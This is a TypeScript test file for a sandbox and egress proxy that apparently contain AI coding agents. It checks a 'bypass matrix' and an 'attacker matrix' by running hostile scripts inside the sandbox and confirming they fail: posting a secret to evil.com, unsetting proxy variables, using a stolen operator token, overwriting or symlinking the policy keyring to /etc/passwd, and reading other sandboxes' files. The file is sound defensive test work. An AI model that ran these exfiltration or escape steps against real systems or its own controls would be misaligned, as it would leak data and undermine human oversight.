/**
 * What the kernel ring answers of the bypass matrix and of the attacker matrix, with the real ring: bwrap and our egress
 * proxy. Each row is one test with the row's words as its name. Needs bubblewrap, socat, curl and python3.
 */
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { chmodSync, chownSync, mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { type CompiledPolicy, emptyCompiledPolicy } from '@tappass/core';
import { findTarget } from '@tappass/providers';
import { type Denial, type Egress, type EgressPolicy, startEgress } from 'tappass-host/egress';
import { agentEnvironment, launchSandbox, type Sandbox, type SandboxExit } from 'tappass-host/launch';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';

const root = process.getuid!() === 0;
/** One sandbox of a host: its own user where root can give one. */
interface Host {
	readonly folder: string;
	readonly uid: number;
	readonly denials: Denial[];
	readonly egress: Egress;
	policy: EgressPolicy | null;
}
let plane: Server;
let seen: { readonly url: string | undefined; readonly token: string | undefined }[];
let hosts: Host[];

beforeEach(async () => {
	[seen, hosts] = [[], []];
	plane = createServer((request, response) => {
		seen.push({ url: request.url, token: request.headers.authorization });
		response.end('plane\n');
	}).listen(0, '127.0.0.1');
	await once(plane, 'listening');
});
afterEach(async () => {
	for (const { egress, folder } of hosts) {
		await egress.close();
		rmSync(folder, { recursive: true, force: true });
	}
	plane.closeAllConnections();
	plane.close();
});

function planePort(): number {
	return (plane.address() as AddressInfo).port;
}
async function makeHost(allow: readonly string[] = ['files.acme.com']): Promise<Host> {
	const uid = root ? 20_001 + hosts.length : process.getuid!();
	const folder = mkdtempSync('/var/tmp/tappass-ring-');
	chmodSync(folder, 0o755);
	for (const name of ['workspace', 'keyring']) mkdirSync(join(folder, name), { mode: 0o755 });
	chownSync(join(folder, 'workspace'), uid, uid);
	writeFileSync(join(folder, 'keyring/keyring.json'), '{"policy_version":2}');
	const denials: Denial[] = [];
	const state = {
		policy: { rules: { schema: 'tappass.egress-rules/1', allow, deny: [] }, cidrs: [] } as EgressPolicy | null,
	};
	const egress = await startEgress({
		socketPath: join(folder, 'egress.sock'),
		policy: () => state.policy,
		token: (door) => `token of the ${door}`,
		agentPlaneUrl: `http://127.0.0.1:${planePort()}`,
		resolve: async () => ['127.0.0.1'],
		onDenied: (denial) => denials.push(denial),
	});
	const host = Object.assign(state, { folder, uid, denials, egress });
	hosts.push(host);
	return host;
}

interface Running {
	readonly sandbox: Sandbox;
	readonly end: Promise<{ readonly exit: SandboxExit; readonly stdout: string; readonly stderr: string }>;
}
async function start(
	host: Host,
	script: string,
	filesystem: Partial<CompiledPolicy['filesystem']> = {},
): Promise<Running> {
	const workspace = join(host.folder, 'workspace');
	const rendered = findTarget('bubblewrap')!.render(
		{
			...emptyCompiledPolicy,
			network: { allow_domains: ['files.acme.com'], deny_categories: [] },
			filesystem: { workspace: '/workspace', read_only: [], deny_paths: [], ...filesystem },
		},
		{
			os: 'linux',
			home: '/home/agent',
			uid: host.uid,
			workspace_host: workspace,
			gateway_url: 'http://inference.local:3128/v1',
			mcp_url: 'http://mcp.local:3128/mcp',
			binaries: { socat: '/usr/bin/socat' },
			target_version: null,
			tool_aliases: {},
			domain_categories: {},
			path_kinds: { [workspace]: 'directory' },
		},
	);
	let ended: (exit: SandboxExit) => void = () => undefined;
	const exit = new Promise<SandboxExit>((resolve) => {
		ended = resolve;
	});
	const sandbox = await launchSandbox({
		name: `ring-${host.uid}`,
		command: '/usr/bin/bash',
		args: ['-c', script],
		rendered,
		runDirectory: join(host.folder, 'run'),
		workspaceHost: workspace,
		keyringDirectory: join(host.folder, 'keyring'),
		egressSocket: join(host.folder, 'egress.sock'),
		uid: host.uid,
		gid: host.uid,
		env: agentEnvironment,
		onExit: (one) => ended(one),
	});
	const texts = { stdout: '', stderr: '' };
	sandbox.process.stdout!.setEncoding('utf8').on('data', (text) => (texts.stdout += text));
	sandbox.process.stderr!.setEncoding('utf8').on('data', (text) => (texts.stderr += text));
	const closed = once(sandbox.process, 'close');
	return { sandbox, end: Promise.all([exit, closed]).then(([one]) => ({ exit: one, ...texts })) };
}
async function run(host: Host, script: string): Promise<{ readonly stdout: string; readonly stderr: string }> {
	return (await start(host, script)).end;
}

describe('bypass matrix, the rows that the kernel ring catches', () => {
	test('agent code tries requests.post("evil.com/...")', async () => {
		const host = await makeHost();
		const { stdout } = await run(
			host,
			[
				'python3 - <<END',
				'import urllib.request, urllib.error, socket',
				'for url in ("http://evil.com/steal", "https://evil.com/steal"):',
				'    try: urllib.request.urlopen(url, data=b"secret", timeout=10); print("sent")',
				'    except urllib.error.HTTPError as error: print(error.code, error.headers["x-tappass-code"])',
				'    except OSError as error: print(error)',
				'try: socket.create_connection(("1.1.1.1", 443), 3); print("connected")',
				'except OSError as error: print(error)',
				'END',
			].join('\n'),
		);

		expect(stdout).toContain('403 domain_not_allowed');
		expect(stdout).toContain('Tunnel connection failed: 403');
		expect(stdout).toContain('unreachable');
		expect(stdout).not.toMatch(/sent|connected/);
		expect(host.denials.map(({ code, host: name }) => [code, name])).toContainEqual(['domain_not_allowed', 'evil.com']);
	});

	test('operator patches the harness: the egress allow-list still blocks', async () => {
		const host = await makeHost();
		// What a patched harness would do: no proxy variables, settings of its own, any client.
		const { stdout } = await run(
			host,
			[
				'mkdir -p ~/.claude && echo "{}" >~/.claude/settings.json',
				'unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy NO_PROXY no_proxy',
				'curl -s -m 3 http://evil.com/; echo $?',
				'curl -s -m 3 http://1.1.1.1/; echo $?',
				'curl -s -o /dev/null -w "%{http_code}\\n" -H "host: evil.com" http://127.0.0.1:3128/',
				'curl -s http://inference.local:3128/v1/models',
			].join('\n'),
		);

		expect(stdout).toBe('6\n7\n403\nplane\n');
	});

	test('policy changes while the agent runs: what is no longer allowed ends at once', async () => {
		const host = await makeHost();
		const { sandbox, end } = await start(
			host,
			'while curl -s -m 5 http://inference.local:3128/; do sleep 0.05; done; sleep 60',
		);
		while (seen.length < 2) await once(plane, 'request');
		host.policy = null;
		host.egress.refresh();
		const before = seen.length;
		const answer = await enter(
			sandbox,
			'curl -s -o /dev/null -w "%{http_code} %header{x-tappass-code}" http://inference.local:3128/',
		);
		await sandbox.kill();
		await end;

		expect(answer).toBe('403 keyring_expired');
		expect(seen.length).toBeLessThanOrEqual(before + 1);
	});
});

/** A second program in the same sandbox, as `tappass-host shell` starts it. */
async function enter(sandbox: Sandbox, script: string): Promise<string> {
	const { command, args, env } = sandbox.enter('/usr/bin/bash', ['-c', script]);
	const child = spawn(command, args, { env, cwd: '/', stdio: ['ignore', 'pipe', 'inherit'] });
	let text = '';
	child.stdout.setEncoding('utf8').on('data', (part) => (text += part));
	await once(child, 'close');
	return text;
}

describe('attacker matrix: who owns the agent process cannot', () => {
	test('modify the Compiled Policy', async () => {
		const host = await makeHost();
		const { stdout } = await run(
			host,
			'cd /run/tappass; for act in "tee keyring.json" "rm -f keyring.json" "mv keyring.json x" "ln -sf /etc/passwd keyring.json" "chmod 777 keyring.json" "touch new"; do $act </dev/null >/dev/null 2>&1 && echo "done: $act"; done; cat keyring.json',
		);

		expect(stdout).toBe('{"policy_version":2}');
	});

	test("replay an older Compiled Policy: a copy put over the Keyring stays the agent's own", async () => {
		const host = await makeHost();
		const { sandbox, end } = await start(host, 'cp /run/tappass/keyring.json old; sleep 60');
		// The host replaces the file by rename, as it always does; the agent sees the new one in the mounted directory.
		writeFileSync(join(host.folder, 'keyring/.new'), '{"policy_version":3}');
		renameSync(join(host.folder, 'keyring/.new'), join(host.folder, 'keyring/keyring.json'));
		const text = await enter(
			sandbox,
			'cp old /run/tappass/keyring.json 2>/dev/null || mount --bind old /run/tappass/keyring.json 2>/dev/null || cat /run/tappass/keyring.json',
		);
		await sandbox.kill();
		await end;

		expect(text).toBe('{"policy_version":3}');
		expect(readFileSync(join(host.folder, 'keyring/keyring.json'), 'utf8')).toBe('{"policy_version":3}');
	});

	test('reach admin endpoints: only the agent plane answers, and with the token of its door alone', async () => {
		const host = await makeHost();
		const admin = createServer((_, response) => response.end('admin')).listen(0, '127.0.0.1');
		await once(admin, 'listening');
		const { port } = admin.address() as AddressInfo;
		const { stdout } = await run(
			host,
			[
				`for at in 127.0.0.1:${port} localhost:${port} files.acme.com:${port}; do curl -s -x http://127.0.0.1:3128 --noproxy "" -o /dev/null -w "%{http_code}\\n" http://$at/v1/policies; done`,
				'curl -s -H "authorization: Bearer stolen operator token" http://inference.local:3128/v1/policies',
			].join('\n'),
		);
		admin.close();

		expect(stdout).toBe('403\n403\n403\nplane\n');
		expect(seen).toEqual([{ url: '/v1/policies', token: 'Bearer token of the gateway' }]);
	});

	test('read other sandboxes: their files, processes, sockets and network', async () => {
		const [host, other] = [await makeHost(), await makeHost()];
		writeFileSync(join(other.folder, 'workspace/secret'), 'of the other');
		const running = await start(other, 'python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & sleep 60');
		const { stdout } = await run(
			host,
			[
				`cat ${other.folder}/workspace/secret /proc/${running.sandbox.innerPid}/root/workspace/secret 2>/dev/null && echo read`,
				`kill -0 ${running.sandbox.innerPid} 2>/dev/null && echo signalled`,
				'curl -s -m 2 http://127.0.0.1:8000/ && echo connected',
				`ls ${other.folder}/egress.sock 2>/dev/null && echo seen`,
				'id -u',
			].join('\n'),
		);
		await running.sandbox.kill();

		expect(stdout).toBe(`${host.uid}\n`);
		if (root) expect(host.uid).not.toBe(other.uid);
	});
});
